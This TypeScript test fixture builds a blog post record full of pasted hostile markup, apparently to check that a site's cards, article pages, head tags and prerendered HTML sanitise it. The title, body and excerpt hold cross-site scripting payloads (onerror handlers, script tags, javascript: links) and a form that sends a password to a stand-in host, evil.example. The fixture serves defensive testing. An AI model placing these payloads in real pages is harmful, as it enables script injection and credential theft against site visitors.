import type { DbPost } from '../db';

/**
 * An old post whose editor pasted markup from elsewhere: a title, excerpt and
 * body carrying scripts, event handlers, `javascript:` links, a form, an
 * unknown iframe and text that would end a `<script>` block or open an HTML
 * comment. It is on the site, so every path (cards, article, head tags,
 * prerendered HTML and its embedded data) is tested against it.
 */
export function pastedMarkupPost(toGmt: (local: string) => string): DbPost {
  const date = '2021-01-04T09:00:00';
  return {
    id: 1099,
    date,
    date_gmt: toGmt(date),
    modified: date,
    modified_gmt: toGmt(date),
    slug: 'pasted-markup-check',
    status: 'publish',
    password: '',
    title: 'Pasted markup check: &lt;/script&gt;&lt;!-- and <img src=x onerror="window.__pwned=1">',
    content: [
      '<p>Text before the pasted markup.</p>',
      '<img src="x" onerror="window.__pwned=1" alt="">',
      '<script>window.__pwned=1</script>',
      '<p><a href="javascript:window.__pwned=1">A javascript: link</a> and <a href="#" onclick="window.__pwned=1">a click handler</a>.</p>',
      '<form action="https://evil.example/collect"><input name="password" aria-label="Password"><button>Send</button></form>',
      '<iframe src="https://evil.example/frame"></iframe>',
      '<p>A closing tag in prose: &lt;/script&gt;&lt;!-- stays text.</p>',
      '<p>Text after the pasted markup.</p>',
    ].join('\n'),
    excerpt: '<script>window.__pwned=2</script><p>An excerpt with a script in front of it: &lt;/script&gt;&lt;!--</p>\n',
    author: 1,
    featured_media: 0,
    comment_status: 'closed',
    sticky: false,
    categories: [3],
    tags: [],
  };
}
